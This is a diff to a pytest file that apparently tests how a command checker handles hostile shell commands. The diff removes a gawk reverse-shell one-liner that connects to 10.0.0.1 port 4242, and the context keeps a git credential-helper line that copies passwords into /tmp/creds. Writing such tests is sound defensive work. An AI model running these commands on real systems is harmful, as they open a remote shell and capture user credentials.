@@ -14,18 +14,6 @@ CWD, HOME = "/home/user/project", "/home/user"
 
 OPEN = [
     pytest.param(
-        'awk \'BEGIN {s = "/inet/tcp/0/10.0.0.1/4242"; while (1) {printf "> " |& s; '
-        "s |& getline c; if (c) {while ((c |& getline) > 0) print $0 |& s; close(c)}}}' /dev/null",
-        id="awk-inet-reverse-shell",
-        marks=pytest.mark.xfail(
-            strict=True,
-            reason="gawk's /inet/tcp coprocess runs each line it reads as a command; the awk "
-            "runner does not read |& getline from a socket (https://github.com/swisskyrepo/"
-            "PayloadsAllTheThings/blob/master/Methodology%20and%20Resources/"
-            "Reverse%20Shell%20Cheatsheet.md#awk)",
-        ),
-    ),
-    pytest.param(
         "git config --global credential.helper '!f() { cat >> /tmp/creds; }; f'",
         id="credential-helper-that-keeps-passwords",
         marks=pytest.mark.xfail(
